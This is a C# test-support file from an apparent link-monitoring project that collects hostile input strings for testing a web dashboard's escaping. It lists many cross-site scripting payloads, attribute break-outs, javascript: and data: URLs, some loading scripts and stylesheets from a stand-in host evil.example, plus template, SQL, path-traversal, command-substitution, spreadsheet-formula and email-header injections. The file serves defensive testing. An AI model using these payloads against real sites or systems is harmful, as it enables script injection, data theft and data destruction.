using System.Text.Json;
using LinkWatch.Tests.Support;

namespace LinkWatch.Tests.Web.Dashboard;

/// <summary>Texts that run, restyle or mislead where a page takes them for more than text. Each that can run says so by an alert.</summary>
internal static class HostileTexts
{
    private static readonly string[] Elements =
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
        "<script type=module>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG SRC=\"x\" ONERROR=\"alert(1)\">",
        "<img src=x onerror='alert(1)'//",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>",
        "<isindex type=image src=x onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x>",
        "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>",
        "<p style=\"background:url(//evil.example/x)\">x</p>",
        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<frameset onload=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>",
    ];

    private static readonly string[] BreakOuts =
    [
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='",
        "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) x=`", "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
        "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</pre></dd></main><h1>Signed out</h1>",
        "\"/><svg/onload=alert(1)>", "\\\"><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)",
        "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;", "\u003cimg src=x onerror=alert(1)\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
        "javascript://shop.example/%0Aalert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)", "//evil.example/", "https://shop.example@evil.example/", "file:///etc/passwd",
        "view-source:javascript:alert(1)",
        "mailto:x@shop.example?bcc=all@evil.example", "x@shop.example\r\nBcc: all@evil.example",
    ];

    private static readonly string[] Templates =
    [
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "@(alert(1))", "@{ alert(1); }",
        "{{=alert(1)}}", "[[alert(1)]]", "{%25 import os %25}", "$(id)", "`id`", "=HYPERLINK(\"javascript:alert(1)\")",
        "=cmd|'/c calc'!A1",
        "{0} {1} {2}", "%s%s%n%n", "'; DROP TABLE rows; --", "../../../../etc/passwd", "{\"__proto__\":{\"x\":1}}",
    ];

    private static readonly string[] Letters =
    [
        "\u202Egpj.exe", "\u2066\u202Eevil\u2069", "shop\u200B.\u200Dexample", "\uFEFFbegin",
        "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307z",
        "\u0000nul", "\u0007\u0008\u001B[31mred", "\u0085\u2028\u2029lines", "half a pair \uD83D", "\uDE00 the other half",
        "\uFFFE\uFFFF", "👩‍👩‍👧‍👦🏳️‍🌈",
        "ﷺ﷽", "ｓｃｒｉｐｔ", "İıſK", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "\t\r\n", new string('x', 500),
    ];

    /// <summary>Longer than any field takes: 64 KB, of text and of a script that never ends.</summary>
    public static IReadOnlyList<string> Long { get; } =
    [
        new('w', 65_536), string.Concat(Enumerable.Repeat("<b onclick=alert(1)>", 3_277)),
        string.Concat(Enumerable.Repeat("\u202E", 21_846)),
    ];

    public static IReadOnlyList<string> All { get; } = [.. Elements, .. BreakOuts, .. Addresses, .. Templates, .. Letters];

    /// <summary>Those that others collected, too, if they are here.</summary>
    public static IReadOnlyList<string> WithNaughty() => Suites.Folder is { } folder
        ? [.. All, .. JsonSerializer.Deserialize<string[]>(File.ReadAllText(Path.Combine(folder, "naughty-strings.json")))!]
        : All;
}
